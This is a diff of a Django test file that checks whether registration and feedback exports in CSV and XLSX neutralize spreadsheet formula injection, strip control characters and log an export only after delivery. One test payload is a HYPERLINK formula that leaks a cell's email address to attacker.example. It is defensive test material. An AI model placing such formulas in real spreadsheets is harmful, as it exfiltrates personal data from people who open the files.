@@ -4,6 +4,7 @@ import csv
 import io
 import uuid
 
+import pytest
 from openpyxl import load_workbook
 
 from council import registration as seats
@@ -32,7 +33,7 @@ def test_registrations_export_as_csv_and_xlsx_and_each_is_logged(staff):
     assert rows[1][6] == "ASL"
 
     response = staff.get(f"/admin/council/convenings/{convening.pk}/registrations.xlsx")
-    sheet = load_workbook(io.BytesIO(response.content)).active
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
     assert sheet["B2"].value == "e@example.org"
 
     logs = ExportLog.objects.order_by("exported_at")
@@ -75,3 +76,89 @@ def test_exports_need_permission_and_a_known_format(db, host_client):
         == 404
     )
     assert ExportLog.objects.count() == 0
+
+
+FORMULA_LEADS = ["=", "+", "-", "@", "\t", "\r"]
+LINK = 'HYPERLINK("http://attacker.example/?x="&B2,"Verify")'
+
+
+def register(convening, name: str, needs: str = ""):
+    seats.register(
+        convening.pk,
+        seats.Registrant(
+            name=name,
+            email=f"{uuid.uuid4().hex[:8]}@example.org",
+            attendance_mode="online",
+            accommodation_request=needs,
+        ),
+        uuid.uuid4(),
+    )
+
+
+def download(client, path: str) -> bytes:
+    response = client.get(path)
+    assert response.status_code == 200
+    return b"".join(response.streaming_content)
+
+
+def csv_rows(content: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+
+
+def xlsx_rows(content: bytes) -> list[tuple]:
+    return list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
+
+
+def test_every_formula_start_is_neutralized_in_both_formats(staff):
+    convening = make_convening()
+    for lead in FORMULA_LEADS:
+        register(convening, lead + LINK)
+    path = f"/admin/council/convenings/{convening.pk}/registrations"
+
+    in_csv = sorted(row[0] for row in csv_rows(download(staff, path + ".csv"))[1:])
+    workbook = load_workbook(io.BytesIO(download(staff, path + ".xlsx")))
+    in_xlsx = sorted(row[0].value for row in workbook.active.iter_rows(min_row=2))
+
+    assert in_csv == sorted("'" + lead + LINK for lead in FORMULA_LEADS)
+    # A workbook keeps line ends as "\n", so a leading "\r" comes back as one.
+    assert in_xlsx == sorted("'" + lead.replace("\r", "\n") + LINK for lead in FORMULA_LEADS)
+    assert all(row[0].data_type == "s" for row in workbook.active.iter_rows(min_row=2))
+
+
+def test_a_question_that_reads_as_a_formula_is_neutralized_in_the_header(staff):
+    convening = make_convening()
+    prompt = make_survey(subject="convening", convening=convening)
+    prompt.questions.filter(text="Clear?").update(text="=1+1")
+    path = f"/admin/council/convenings/{convening.pk}/feedback"
+
+    assert "'=1+1" in csv_rows(download(staff, path + ".csv"))[0]
+    assert "'=1+1" in xlsx_rows(download(staff, path + ".xlsx"))[0]
+
+
+def test_control_characters_do_not_stop_a_workbook(staff):
+    convening = make_convening()
+    register(convening, "Bell\x07 Ringer", needs="Form\x0cfeed\x1b")
+    path = f"/admin/council/convenings/{convening.pk}/registrations"
+
+    rows = xlsx_rows(download(staff, path + ".xlsx"))
+
+    assert rows[1][0] == "Bell\ufffd Ringer"
+    assert rows[1][6] == "Form\ufffdfeed\ufffd"
+    assert csv_rows(download(staff, path + ".csv"))[1][0] == "Bell\ufffd Ringer"
+    assert ExportLog.objects.filter(file_format="xlsx").count() == 1
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_an_export_is_logged_only_once_it_was_delivered(staff, file_format):
+    convening = make_convening()
+    register(convening, "Dana")
+    path = f"/admin/council/convenings/{convening.pk}/registrations.{file_format}"
+
+    abandoned = staff.get(path).streaming_content
+    next(abandoned)  # the server writes the file, and the client goes away before the end
+    assert ExportLog.objects.count() == 0
+
+    delivered = staff.get(path)
+    assert ExportLog.objects.count() == 0
+    b"".join(delivered.streaming_content)
+    assert ExportLog.objects.get().file_format == file_format
